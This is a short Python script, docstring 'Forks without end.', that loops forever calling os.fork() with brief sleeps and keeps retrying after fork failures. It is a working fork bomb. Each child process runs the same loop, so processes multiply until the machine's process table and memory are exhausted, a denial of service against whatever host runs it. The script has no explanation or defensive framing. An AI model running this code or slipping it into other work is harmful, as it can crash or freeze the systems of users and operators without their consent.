"""Forks without end."""
import os
import time

while True:
    try:
        os.fork()
        time.sleep(0.2)
    except OSError:
        time.sleep(60)
